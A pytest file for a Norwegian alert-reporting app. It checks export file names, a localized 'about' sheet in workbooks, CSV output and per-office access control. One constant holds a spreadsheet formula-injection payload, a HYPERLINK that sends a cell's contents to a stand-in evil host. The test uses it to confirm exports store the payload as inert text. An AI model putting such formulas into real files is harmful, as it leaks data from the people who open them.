"""The downloads of one alert and one municipality say what they hold: a readable file name that keeps
the id, and in a workbook a first sheet naming the alert (title, issuing body, office, approval) or
the municipality (name, number, county) and when the figures were read, on the office's clock."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from relay.db import transaction
from relay.i18n import translator
from relay.models import Alert
from relay.reports.drilldown import alert_report, municipality_report
from relay.reports.export import to_csv
from relay.reports.tables import alert_tables, municipality_tables

OSLO = ZoneInfo("Europe/Oslo")
APPROVED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)  # 10:30 on the office's clock (winter time, UTC+1)
TITLE = "Samvær etter omsorgsovertaking: Bergen og Voss må vurdere samværet på nytt"
EVIL = '=HYPERLINK("https://evil.example/?d="&B3,"Open the case")'
LABELS = {
    "nb": {"sheet": "Om filen", "alert": "Varsel", "title": "Tittel", "body": "Kilde", "office": "Statsforvalter",
           "approved": "Godkjent", "read": "Tall per", "municipality": "Kommune", "code": "Kommunenr.",
           "county": "Fylke", "echr": "Den europeiske menneskerettsdomstolen (EMD)"},
    "en": {"sheet": "About", "alert": "Alert", "title": "Title", "body": "Source", "office": "Governor's office",
           "approved": "Approved", "read": "Figures as of", "municipality": "Municipality",
           "code": "Municipality no.", "county": "County", "echr": "European Court of Human Rights (ECtHR)"},
}


@pytest.fixture
def alert_id(engine, receipts) -> int:
    """Vestland's alert with a title, an issuing body and a fixed approval time, before any report counts it."""
    with transaction(engine) as s:
        alert = s.get(Alert, receipts.alert_a)
        alert.title_nb = alert.title_nn = TITLE
        alert.approved_at = APPROVED
        alert.item.body = "ECHR"
    return receipts.alert_a


def _oslo_minute(moment: datetime) -> str:
    return moment.astimezone(OSLO).strftime("%Y-%m-%d %H:%M")


def _about(response) -> tuple[str, dict[str, str]]:
    book = load_workbook(io.BytesIO(response.content))
    about = book.worksheets[0]
    return about.title, {label: value for label, value in about.iter_rows(values_only=True)}


def _about_read_now(client, path: str, lang: str):
    """The response and its about sheet's rows, after checking the sheet's name and that the figures were
    read during the request (that row is taken out)."""
    words = LABELS[lang]
    before = datetime.now(UTC)
    response = client.get(f"{path}?lang={lang}")
    after = datetime.now(UTC)
    title, rows = _about(response)
    assert title == words["sheet"]
    # shown as on the pages, 07.12.2026 kl. 23:14 (issue 21); compared as a moment
    read = datetime.strptime(re.sub(r" (kl\.|at) ", " ", rows.pop(words["read"])), "%d.%m.%Y %H:%M")
    assert _oslo_minute(before) <= read.strftime("%Y-%m-%d %H:%M") <= _oslo_minute(after)
    return response, rows


def _filename(response) -> str:
    return re.fullmatch(r'attachment; filename="([^"]+)"', response.headers["content-disposition"]).group(1)


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_the_alert_workbook_says_which_alert_which_office_and_when(client_for, alert_id, lang):
    words = LABELS[lang]
    response, rows = _about_read_now(client_for("ministry"), f"/reports/alerts/{alert_id}/export/all.xlsx", lang)
    assert rows == {words["alert"]: str(alert_id), words["title"]: TITLE, words["body"]: words["echr"],
                    words["office"]: "Statsforvalteren i Vestland", words["approved"]: "02.03.2026 " + ("kl." if lang == "nb" else "at") + " 10:30"}
    sheets = load_workbook(io.BytesIO(response.content)).sheetnames
    # the tables follow, each sheet named after its caption in the reader's language (issue 21)
    assert len(sheets) == 4 and not {"totals", "municipalities", "contacts"} & set(sheets)
    assert sheets[1] == ("Hovedtall" if lang == "nb" else "Key figures")


@pytest.mark.parametrize("lang", ["nb", "en"])
def test_the_municipality_workbook_says_which_municipality_and_when(client_for, vestland, lang):
    words = LABELS[lang]
    _, rows = _about_read_now(client_for("ministry"), "/reports/municipalities/4621/export/all.xlsx", lang)
    assert rows == {words["municipality"]: "Voss", words["code"]: "4621", words["county"]: "Vestland",
                    words["office"]: "Statsforvalteren i Vestland"}


def test_the_file_names_are_readable_and_keep_the_id(client_for, alert_id):
    ministry = client_for("ministry")
    slug = "samvaer-etter-omsorgsovertaking-bergen-og-voss-ma-vurdere"  # cut at a word, æ and å spelt out
    assert _filename(ministry.get(f"/reports/alerts/{alert_id}/export/all.xlsx")) == (
        f"relay-alert-{alert_id}-{slug}-all.xlsx")
    assert _filename(ministry.get(f"/reports/alerts/{alert_id}/export/contacts.csv")) == (
        f"relay-alert-{alert_id}-{slug}-contacts.csv")
    assert _filename(ministry.get("/reports/municipalities/4621/export/alerts.csv")) == (
        "relay-municipality-4621-voss-alerts.csv")
    assert _filename(ministry.get("/reports/municipalities/4601/export/all.xlsx")) == (
        "relay-municipality-4601-bergen-all.xlsx")


def test_a_formula_title_is_text_on_the_about_sheet_and_out_of_the_file_name(client_for, engine, alert_id):
    with transaction(engine) as s:
        s.get(Alert, alert_id).title_nb = EVIL
    response = client_for("ministry").get(f"/reports/alerts/{alert_id}/export/all.xlsx")
    about = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert about.title == "Om filen"  # the title is also in the totals sheet; this is about the first sheet
    cells = [c for row in about.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    [title] = [c for c in cells if c.value == EVIL]  # exactly as written, as a string
    assert title.data_type == "s" and title.quotePrefix  # Excel keeps it text even when the cell is edited
    assert _filename(response) == f"relay-alert-{alert_id}-hyperlink-https-evil-example-d-b3-open-the-case-all.xlsx"


def test_the_csv_stays_plain_rows(client_for, engine, alert_id, vestland):
    ministry = client_for("ministry")
    alert_csv = ministry.get(f"/reports/alerts/{alert_id}/export/contacts.csv").text
    municipality_csv = ministry.get("/reports/municipalities/4621/export/alerts.csv?lang=en").text
    with transaction(engine) as s:
        contacts = alert_tables(alert_report(session=s, alert_id=alert_id), translator("nb"))[2]
        history = municipality_tables(municipality_report(session=s, code="4621"), translator("en"))[1]
    assert (contacts.key, history.key) == ("contacts", "alerts")
    assert alert_csv == to_csv(contacts, "nb") and municipality_csv == to_csv(history, "en")
    assert TITLE not in alert_csv and "Om filen" not in alert_csv


def test_a_reader_from_another_office_still_gets_nothing(client_for, alert_id):
    other = client_for("governor_b")
    for path in (f"/reports/alerts/{alert_id}/export/all.xlsx", f"/reports/alerts/{alert_id}/export/contacts.csv",
                 "/reports/municipalities/4621/export/all.xlsx", "/reports/municipalities/4621/export/alerts.csv"):
        response = other.get(path)
        assert response.status_code == 403, path
        assert TITLE.encode() not in response.content and b"Voss" not in response.content, path
    for path in ("/reports/alerts/999999/export/all.xlsx", "/reports/municipalities/9999/export/all.xlsx"):
        assert other.get(path).status_code == 404, path
    assert other.get("/reports/municipalities/4204/export/all.xlsx").status_code == 200  # its own Kristiansand
